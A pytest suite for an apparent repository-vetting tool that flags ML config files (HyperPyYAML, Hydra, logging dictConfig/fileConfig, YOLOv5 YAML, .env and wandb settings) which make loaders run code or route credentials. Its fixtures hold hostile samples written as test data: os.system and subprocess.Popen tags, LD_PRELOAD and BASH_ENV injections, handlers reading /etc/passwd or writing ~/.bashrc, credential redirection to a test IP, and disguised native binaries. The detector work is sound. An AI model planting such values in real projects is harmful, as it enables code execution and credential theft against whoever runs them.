"""Round 21a (fixed in round 22): config values a library acts on (forkvet/vet/configsinks.py,
forkvet/data/config_sinks.json). HyperPyYAML verbatim tags (F6), Hydra `env_set` (F8),
logging dictConfig `()`/`class` (F9), logging fileConfig INI eval (F10), YOLOv5 strings (F11),
credential routes in `wandb/settings` and `.env` (F15), `${oc.env:SECRET}` beside a server (M1),
and the false errors of round 21's real repositories (#19). Loader-differential rows:
tests/hostile/test_loader_differential.py (logging-fileconfig-args, logging-dictconfig-factory,
hyperpyyaml-verbatim-tag, hydra-env-set-bash-env, hydra-job-logging-factory: the last three
ran with FORKVET_LOADER_PATH naming HyperPyYAML 1.2.3 and hydra-core 1.3.2)."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from forkvet.report import Report, Risk

README = {"README.md": "# Model\n"}
OWN = {"mymodel.py": "class Net:\n    pass\n"}


def _errors(report: Report) -> list[Risk]:
    return [r for r in report.risks if r.severity == "error" and r.kind == "code-in-data"]


def _paths(report: Report) -> list[str]:
    return sorted({r.path or "" for r in _errors(report)})


# -- F6: HyperPyYAML verbatim tags ---------------------------------------------------------------
@pytest.mark.parametrize(
    "tag",
    [
        "!<!new:subprocess.Popen>",
        "!<!apply:os.system>",
        "!<!apply:%6Fs.system>",
        "!<%21new:os.system>",
    ],
    ids=["new", "apply", "escaped-suffix", "escaped-handle"],
)
def test_a_verbatim_hyperpyyaml_tag_is_the_tag_the_loader_resolves(
    vet_repo: Callable[..., Report], tag: str
) -> None:
    text = f"sample_rate: 16000\nrun: {tag}\n    args: [touch, x]\n"
    report = vet_repo({**README, "hyperparams.yaml": text})
    assert _paths(report) == ["hyperparams.yaml"], report.risks


def test_a_verbatim_tag_naming_own_code_passes(vet_repo: Callable[..., Report]) -> None:
    text = "model: !<!new:mymodel.Net>\n    width: 8\n"
    assert _paths(vet_repo({**README, **OWN, "hyperparams.yaml": text})) == []


# -- F8: Hydra env_set --------------------------------------------------------------------------
HYDRA_HEAD = "model:\n  _target_: mymodel.Net\n  width: 8\nhydra:\n  job:\n    env_set:\n"


@pytest.mark.parametrize(
    "env",
    [
        "      LD_PRELOAD: ${hydra:runtime.cwd}/assets/colormap.bin\n",
        '      GIT_CONFIG_COUNT: "1"\n      GIT_CONFIG_KEY_0: core.fsmonitor\n',
        "      PYTHONPATH: /tmp/x\n",
        "      WANDB_BASE_URL: http://203.0.113.7\n",
        "      SOME_PLUGIN_PATH: libx.so\n",  # unknown: NOT verified
    ],
    ids=["ld-preload", "git-config", "pythonpath", "routing", "unknown"],
)
def test_hydra_env_set_of_a_variable_not_known_inert_is_an_error(
    vet_repo: Callable[..., Report], env: str
) -> None:
    report = vet_repo({**README, **OWN, "conf/config.yaml": HYDRA_HEAD + env})
    assert _paths(report) == ["conf/config.yaml"], report.risks
    assert "environment variable" in _errors(report)[0].message


def test_a_package_header_that_places_the_root_at_env_set_is_judged(
    vet_repo: Callable[..., Report],
) -> None:
    """Round 22a F16: `# @package hydra.job.env_set` puts the file's root there; no
    `env_set` key is in the file."""
    text = "# @package hydra.job.env_set\nBASH_ENV: ${hydra:runtime.cwd}/x.sh\n"
    report = vet_repo({**README, **OWN, "conf/env/run.yaml": text})
    assert _paths(report) == ["conf/env/run.yaml"], report.risks
    inert = "# @package hydra.job.env_set\nOMP_NUM_THREADS: 4\n"
    assert _paths(vet_repo({**README, **OWN, "conf/env/run.yaml": inert})) == []


def test_hydra_env_set_of_inert_variables_passes(vet_repo: Callable[..., Report]) -> None:
    env = '      CUDA_VISIBLE_DEVICES: "0"\n      OMP_NUM_THREADS: 4\n      HYDRA_FULL_ERROR: 1\n'
    assert _paths(vet_repo({**README, **OWN, "conf/config.yaml": HYDRA_HEAD + env})) == []


# -- F9: logging dictConfig ---------------------------------------------------------------------
def test_a_dictconfig_factory_in_hydra_job_logging_is_an_error(
    vet_repo: Callable[..., Report],
) -> None:
    text = (
        "model: {_target_: mymodel.Net}\nhydra:\n  job_logging:\n    handlers:\n      audit:\n"
        '        "()": subprocess.Popen\n        args: [touch, x]\n'
        "    root:\n      handlers: [audit]\n"
    )
    report = vet_repo({**README, **OWN, "conf/config.yaml": text})
    assert _paths(report) == ["conf/config.yaml"]
    assert "logging `()`" in _errors(report)[0].message


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "logging.yaml",
            "version: 1\nhandlers:\n  x:\n    class: subprocess.Popen\n    args: [touch, x]\n",
        ),
        (
            "logging.json",
            '{"version": 1, "formatters": {"f": {"()": "os.system", "command": "touch x"}}}',
        ),
        ("conf/hydra/job_logging/custom.yaml", 'handlers:\n  x:\n    "()": os.system\n'),
        (
            "log.yaml",
            "version: 1\nhandlers:\n  x:\n    class: logging.StreamHandler\n"
            "    stream: ext://subprocess.Popen\n",
        ),
        (
            "log.yaml",
            "version: 1\nhandlers:\n  x:\n    class: logging.FileHandler\n"
            "    filename: ~/.bashrc\n",
        ),
    ],
    ids=["class", "json-factory", "hydra-group-file", "ext", "file-outside-run"],
)
def test_a_dictconfig_file_naming_code_is_an_error(
    vet_repo: Callable[..., Report], path: str, text: str
) -> None:
    assert _paths(vet_repo({**README, path: text})) == [path]


def test_hydra_logging_with_loggings_own_handlers_passes(vet_repo: Callable[..., Report]) -> None:
    # facebookresearch/esm examples/lm-design/conf/config.yaml (three false errors in round 21:
    # `class` read as Hydra 1.0's, `filename: logging.l` as a string a loader evaluates)
    text = (
        "hydra:\n  job_logging:\n    formatters:\n      colorlog:\n"
        '        datefmt: "%m-%d %H:%M:%S"\n    handlers:\n      file:\n'
        "        class: logging.FileHandler\n        mode: w\n        filename: logging.l\n"
        "      console:\n        class: logging.StreamHandler\n        stream: ext://sys.stdout\n"
        "  hydra_logging:\n    handlers:\n      console:\n        class: logging.StreamHandler\n"
        "        stream: ext://sys.stdout\n"
        "    file:\n      filename: ${hydra.runtime.output_dir}/${hydra.job.name}.log\n"
    )
    assert _paths(vet_repo({**README, "conf/config.yaml": text})) == []


# -- F10: logging fileConfig INI ----------------------------------------------------------------
INI = (
    "[loggers]\nkeys=root\n\n[handlers]\nkeys=console\n\n[formatters]\nkeys=plain\n\n"
    "[logger_root]\nlevel=INFO\nhandlers=console\n\n[handler_console]\n{handler}\n\n"
    "[formatter_plain]\nformat=%%(asctime)s %%(message)s\n"
)


@pytest.mark.parametrize(
    "handler",
    [
        "class=StreamHandler\nargs=(sys.stdout if not __import__('os').system('x') else 0,)",
        "class=StreamHandler\nkwargs={'stream': open('/etc/passwd')}",
        "class=os.system\nargs=('touch x',)",
        "class=subprocess.Popen\nargs=(['touch', 'x'],)",
        "class=FileHandler\nargs=('/home/u/.bashrc', 'a')",
        "class=handlers.RotatingFileHandler\nkwargs={'filename': '../../.profile'}",
    ],
    ids=[
        "args",
        "kwargs",
        "class-in-loggings-namespace",
        "class-imported",
        "file-outside-run",
        "rotating-outside-run",
    ],
)
def test_fileconfig_eval_of_more_than_data_is_an_error(
    vet_repo: Callable[..., Report], handler: str
) -> None:
    report = vet_repo({**README, "logging.conf": INI.format(handler=handler)})
    assert _paths(report) == ["logging.conf"], report.risks


def test_fileconfig_with_loggings_own_handlers_passes(vet_repo: Callable[..., Report]) -> None:
    handler = (
        "class=handlers.RotatingFileHandler\nlevel=DEBUG\nformatter=plain\n"
        "args=('train.log', 'a', 1000000, 3)\n"
    )
    files = {**README, "logging.ini": INI.format(handler=handler)}
    files["logging2.ini"] = INI.format(handler="class=StreamHandler\nargs=(sys.stderr,)")
    assert _paths(vet_repo(files)) == []


# -- F11: YOLOv5-style model YAML strings (held since round 20: a regression row) ----------------
def test_a_yolov5_model_yaml_string_that_runs_code_is_an_error(
    vet_repo: Callable[..., Report],
) -> None:
    text = (
        "backbone:\n  [[-1, 1, Conv, [64, 6, 2]],\n"
        "   [-1, 1, Conv, [128, 3, \"2 if __import__('os').system('x') else 2\"]]]\n"
    )
    assert _paths(vet_repo({**README, "models/yolov5s.yaml": text})) == ["models/yolov5s.yaml"]


# -- F15: credential routes ---------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("wandb/settings", "[default]\nbase_url = http://127.0.0.1:18765\n"),
        (".comet.config", "[comet]\nurl_override = http://127.0.0.1:18765/clientlib/\n"),
        (".env", "# keys\nWANDB_BASE_URL=http://127.0.0.1:18765\n"),
        (".env", "export HF_ENDPOINT='http://203.0.113.7'\n"),
        ("app/.env", "LD_PRELOAD=./assets/colormap.bin\n"),
        (".env", "GIT_CONFIG_COUNT=1\n"),
        # round 22a F13: the names load_dotenv(...), compose's env_file: and Flask take
        (".env.local", "BASH_ENV=./x.sh\n"),
        (".flaskenv", "LD_PRELOAD=./assets/colormap.bin\n"),
        ("deploy/prod.env", "HF_ENDPOINT=http://203.0.113.7\n"),
    ],
    ids=[
        "wandb-settings",
        "comet-config",
        "dotenv-wandb",
        "dotenv-hf",
        "dotenv-preload",
        "dotenv-git",
        "dotenv-local",
        "flaskenv",
        "star-dot-env",
    ],
)
def test_a_committed_file_routing_credentials_or_steering_loaders_is_an_error(
    vet_repo: Callable[..., Report], path: str, text: str
) -> None:
    assert _paths(vet_repo({**README, path: text})) == [path]


def test_official_settings_and_plain_dotenv_keys_pass(vet_repo: Callable[..., Report]) -> None:
    files = {
        **README,
        "wandb/settings": "[default]\nbase_url = https://api.wandb.ai\nentity = me\n",
        ".env": "OPENAI_API_KEY=\nWANDB_PROJECT=tiny\nCUDA_VISIBLE_DEVICES=0\n",
    }
    assert _paths(vet_repo(files)) == []


# -- M1: ${oc.env:SECRET} beside a server -------------------------------------------------------
def test_a_secret_read_from_the_environment_beside_a_server_is_a_warning(
    vet_repo: Callable[..., Report],
) -> None:
    text = (
        "run_tag: ${oc.env:HF_TOKEN,none}\nlogger:\n"
        "  _target_: lightning.pytorch.loggers.MLFlowLogger\n"
        "  tracking_uri: http://203.0.113.7:5000\n  run_name: ${run_tag}\n"
    )
    report = vet_repo({**README, "conf/config.yaml": text})
    [warning] = [r for r in report.risks if r.kind == "secret-to-server"]
    assert warning.severity == "warning" and "HF_TOKEN" in warning.message


def test_a_plain_variable_beside_a_server_is_no_warning(vet_repo: Callable[..., Report]) -> None:
    quiet = "data_dir: ${oc.env:DATA_DIR}\nurl: http://example.org/data\n"
    report = vet_repo({**README, "c.yaml": quiet})
    assert not [r for r in report.risks if r.kind == "secret-to-server"]


# -- F8: native code by content, whatever its name ----------------------------------------------
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x03\x00\x3e\x00" + bytes(44)
PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\x00\x00" + bytes(32)


@pytest.mark.parametrize(
    ("name", "data"),
    [("assets/colormap.bin", ELF), ("img/logo.png", PE), ("weights/x.json", ELF)],
    ids=["elf-bin", "pe-png", "elf-json"],
)
def test_a_native_image_named_as_data_is_an_error(
    vet_repo: Callable[..., Report], name: str, data: bytes
) -> None:
    report = vet_repo({**README, name: data})
    [risk] = [r for r in report.risks if r.kind == "native-code"]
    assert risk.severity == "error" and risk.path == name


def test_a_native_image_under_its_own_suffix_is_a_warning(vet_repo: Callable[..., Report]) -> None:
    files = {**README, "tools/helper": ELF, "mex/train.mexw64": PE, "lib/my-languages.so": ELF}
    [risk] = [r for r in vet_repo(files).risks if r.kind == "native-code"]
    assert risk.severity == "warning" and risk.message.startswith("3 native")


# -- #19: round 21's false errors on real repositories (evalstrings) ----------------------------
def test_a_host_name_is_no_reference(vet_repo: Callable[..., Report]) -> None:
    # SeanNaren/deepspeech.pytorch kubernetes/data/storage.yaml
    k8s = "apiVersion: storage.k8s.io/v1\nkind: StorageClass\nprovisioner: pd.csi.storage.gke.io\n"
    files = {**README, "kubernetes/storage.yaml": k8s, "b.yaml": "m: pd.read_pickle\n"}
    assert _paths(vet_repo(files)) == ["b.yaml"]


def test_a_name_under_the_trees_package_that_nothing_binds_is_no_reference(
    vet_repo: Callable[..., Report],
) -> None:
    # google/dopamine docs/api_docs/python/dopamine/_api_cache.json names an old layout
    files = {
        **README,
        "pkg/__init__.py": "",
        "pkg/jax/agent.py": "class Agent:\n    pass\n",
        "pkg2/__init__.py": "import os\n",
        "docs/_api_cache.json": '{"a": "pkg.agents.dqn.dqn_agent.Agent", "b": "pkg.jax.agent"}',
        "c.json": '{"m": "pkg2.os.system"}',
    }
    assert _paths(vet_repo(files)) == ["c.json"]


def test_a_call_of_a_tree_name_no_evaluating_file_sees_is_data(
    vet_repo: Callable[..., Report],
) -> None:
    # lm-sys/FastChat theme.json: CSS `url(...)`; `url` is a def of a script that evaluates nothing
    theme = '{"theme": {"body": "url(\\"data:image/svg+xml,%3csvg%3e\\")"}}'
    files = {**README, "web/util.py": "def url(x):\n    return x\n", "theme.json": theme}
    assert _paths(vet_repo(files)) == []
    evaluator = "from web.util import url\n\ndef parse(m):\n    return eval(m)\n"
    assert _paths(vet_repo({**files, "models/yolo.py": evaluator})) == ["theme.json"]


# keras-retinanet: a test reads tests/test-data/config/config.ini (an absent submodule) with
# configparser; only a loader that acts on INI values (fileConfig, instantiate) makes it code.
SUBMODULE = {
    ".gitmodules": '[submodule "t"]\n\tpath = tests/test-data\n\turl = https://e.org/t.git\n',
    "tests/test_anchors.py": "cfg = read_config_file('tests/test-data/config/config.ini')\n",
}


def test_an_ini_in_an_absent_submodule_read_as_data_is_no_error(
    vet_repo: Callable[..., Report],
) -> None:
    kinds = {r.kind: r.severity for r in vet_repo({**README, **SUBMODULE}).risks}
    assert kinds.get("submodule-unverified") != "error", kinds


@pytest.mark.parametrize(
    "loader",
    ["import logging.config\nlogging.config.fileConfig(path)\n", "import hydra\n"],
    ids=["fileconfig", "hydra"],
)
def test_an_ini_in_an_absent_submodule_a_loader_acts_on_is_not_verified(
    vet_repo: Callable[..., Report], loader: str
) -> None:
    report = vet_repo({**README, **SUBMODULE, "train.py": loader})
    kinds = {r.kind: r.severity for r in report.risks}
    assert kinds.get("submodule-unverified") == "error", kinds


def test_a_secret_handed_to_its_own_service_is_no_warning(vet_repo: Callable[..., Report]) -> None:
    # Dao-AILab/flash-attention training/configs/logger/comet.yaml (the server in a comment)
    comet = (
        "# https://www.comet.ml\ncomet:\n  _target_: pytorch_lightning.loggers.comet.CometLogger\n"
        "  api_key: ${oc.env:COMET_API_TOKEN}\n  url: https://www.comet.ml/api\n"
    )
    evil = "k: ${oc.env:HF_TOKEN}\nlogger:\n  tracking_uri: https://hf.example.com\n"
    report = vet_repo({**README, "comet.yaml": comet, "evil.yaml": evil})
    assert [r.path for r in report.risks if r.kind == "secret-to-server"] == ["evil.yaml"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "log.json",
            '{"version": 1, "handlers": {"f": {"class": "logging.FileHandler", '
            '"filename": "/home/u/.bashrc"}}}',
        ),
        (
            "conf/custom_log.yaml",
            '# @package hydra.job_logging\nhandlers:\n  x:\n    "()": os.system\n',
        ),
    ],
    ids=["minified-json", "package-header"],
)
def test_a_dictconfig_found_by_content(
    vet_repo: Callable[..., Report], path: str, text: str
) -> None:
    assert _paths(vet_repo({**README, path: text})) == [path]


def test_a_target_beside_a_dictconfig_value_is_still_judged(
    vet_repo: Callable[..., Report],
) -> None:
    text = (
        "version: 1\nhandlers: {}\nmodel:\n  _target_: subprocess.Popen\n"
        "h: {class: logging.StreamHandler, _target_: os.system}\n"
    )
    report = vet_repo({**README, "conf/config.yaml": text})
    quoted = " ".join(r.message for r in _errors(report))
    assert "'subprocess.Popen'" in quoted and "'os.system'" in quoted


@pytest.mark.parametrize(
    ("files", "value"),
    [
        ({"os/__init__.py": ""}, "os.system"),
        ({"torch/__init__.py": ""}, "torch.load"),
        ({"tensorflow/x.py": ""}, "tensorflow.io.write_file"),  # a namespace portion
    ],
    ids=["stdlib", "known-distribution", "namespace-package"],
)
def test_a_tree_package_shadowing_another_does_not_make_its_names_unbound(
    vet_repo: Callable[..., Report], files: dict[str, str], value: str
) -> None:
    report = vet_repo({**README, **files, "m.yaml": f"m: {value}\n"})
    assert _paths(report) == ["m.yaml"], report.risks


def test_a_settings_file_configparser_cannot_read_is_not_verified(
    vet_repo: Callable[..., Report],
) -> None:
    text = "base_url = http://127.0.0.1:18765\n[default]\n"  # a key before any section
    assert _paths(vet_repo({**README, "wandb/settings": text})) == ["wandb/settings"]


def test_a_bpe_vocabulary_full_of_bangs_is_no_verbatim_tag(vet_repo: Callable[..., Report]) -> None:
    # salesforce/LAVIS bpe_simple_vocab_16e6.txt.gz: `!<` pairs in a 2 MiB+ gzipped text
    import gzip

    vocab = ("i n\nt h\n!< /w>\n" * 200_000).encode()
    report = vet_repo({**README, "bpe_vocab.txt.gz": gzip.compress(vocab)})
    assert _paths(report) == [], report.risks


def test_a_target_under_a_namespace_folder_of_the_tree_stays_own(
    vet_repo: Callable[..., Report],
) -> None:
    # Dao-AILab/flash-attention training/configs/scheduler/invsqrt.yaml: `src/optim/` has no
    # __init__.py and no lr_scheduler module; `src` is no known distribution's import name
    files = {
        **README,
        "training/run.py": "import hydra\nhydra.utils.instantiate(cfg)\n",
        "training/src/optim/param_grouping.py": "x = 1\n",
        "training/configs/invsqrt.yaml": "_target_: src.optim.lr_scheduler.InvSqrt\n",
    }
    assert _paths(vet_repo(files)) == []
